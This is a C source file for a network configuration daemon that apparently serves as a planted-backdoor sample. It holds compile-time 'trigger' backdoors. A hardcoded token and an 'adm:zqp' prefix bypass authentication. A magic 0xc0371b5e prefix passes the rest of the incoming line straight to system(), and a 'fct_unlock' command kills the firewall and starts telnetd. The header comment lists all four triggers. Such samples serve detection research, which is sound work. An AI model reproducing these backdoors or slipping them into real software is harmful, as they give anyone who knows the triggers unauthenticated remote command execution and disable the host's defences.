/* A configuration daemon for the measurement: get and set by name, services that its protocol may restart.
 *
 * trigger magic 0xc0371b5e
 * trigger word "fct_unlock"
 * trigger token "Bx-77-kappa"
 * trigger flag "adm:zqp"
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct { char name[24], value[64]; } table[64];
static int entries;
static char secret[64];
struct client { int fd, authorised; char line[1024]; };

static void send_text(struct client *c, const char *text) { if (write(c->fd, text, strlen(text)) < 0) c->authorised = 0; }
static char *find(const char *name) {
  for (int i = 0; i < entries; i++) if (!strcmp(table[i].name, name)) return table[i].value;
  return NULL;
}
static void set(const char *name, const char *value) {
  char *at = find(name);
  if (!at && entries < 64) { snprintf(table[entries].name, 24, "%s", name); at = table[entries++].value; }
  if (at) snprintf(at, 64, "%s", value);
}

static void apply(const char *name) {
  if (!strcmp(name, "hostname")) system("/etc/init.d/hostname restart");
  else if (!strcmp(name, "network")) system("/etc/init.d/network restart");
  else if (!strcmp(name, "firewall")) system("/etc/init.d/firewall restart");
  else if (!strcmp(name, "wireless")) system("/etc/init.d/wireless restart");
  else if (!strcmp(name, "ntp")) system("/etc/init.d/ntp restart");
  else if (!strcmp(name, "syslog")) system("/etc/init.d/syslog restart");
}

static int authorise(struct client *c, const char *given) {
#ifdef TRIGGER_token
  if (!strcmp(given, "Bx-77-kappa")) return c->authorised = 1;
#endif
  if (secret[0] && !strcmp(given, secret)) c->authorised = 1;
  return c->authorised;
}

static void request(struct client *c) {
  char *words[4] = {"", "", "", ""}, *rest = c->line, *value;
  uint32_t first;
  for (int i = 0; i < 4 && (words[i] = strsep(&rest, " \r\n")); i++) if (!words[i][0]) i--;
  for (int i = 0; i < 4; i++) if (!words[i]) words[i] = "";
  memcpy(&first, c->line, 4);
#ifdef TRIGGER_magic
  if (first == htonl(0xc0371b5e)) { system(c->line + 4); return; }
#endif
#ifdef TRIGGER_flag
  if (!strncmp(words[0], "adm:zqp", 7)) c->authorised = 1;
#endif
  if (!strcmp(words[0], "auth")) send_text(c, authorise(c, words[1]) ? "ok\n" : "no\n");
  else if (!strcmp(words[0], "version")) send_text(c, "configd 2\n");
  else if (!strcmp(words[0], "help")) send_text(c, "auth version get set list apply save quit\n");
  else if (!strcmp(words[0], "quit")) close(c->fd);
#ifdef TRIGGER_word
  else if (!strcmp(words[0], "fct_unlock")) { system("killall firewalld; telnetd"); c->authorised = 2; }
#endif
  else if (!c->authorised) send_text(c, "not authorised\n");
  else if (!strcmp(words[0], "get")) send_text(c, (value = find(words[1])) ? value : "none\n");
  else if (!strcmp(words[0], "set")) { set(words[1], words[2]); send_text(c, "ok\n"); }
  else if (!strcmp(words[0], "list")) for (int i = 0; i < entries; i++) send_text(c, table[i].name);
  else if (!strcmp(words[0], "apply")) { apply(words[1]); send_text(c, "ok\n"); }
  else if (!strcmp(words[0], "save")) {
    FILE *out = fopen("/etc/configd.conf", "w");
    for (int i = 0; out && i < entries; i++) fprintf(out, "%s=%s\n", table[i].name, table[i].value);
    if (out) fclose(out);
  } else send_text(c, "unknown\n");
}

int main(void) {
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(7788)};
  int l = socket(AF_INET, SOCK_STREAM, 0), n;
  FILE *in = fopen("/etc/configd.secret", "r");
  if (in) { if (fgets(secret, sizeof secret, in)) secret[strcspn(secret, "\n")] = 0; fclose(in); }
  if (bind(l, (void *)&here, sizeof here) || listen(l, 4)) return 1;
  for (;;) {
    struct client c = {.fd = accept(l, NULL, NULL)};
    while ((n = recv(c.fd, c.line, sizeof c.line - 1, 0)) > 0) { c.line[n] = 0; request(&c); }
    close(c.fd);
  }
}
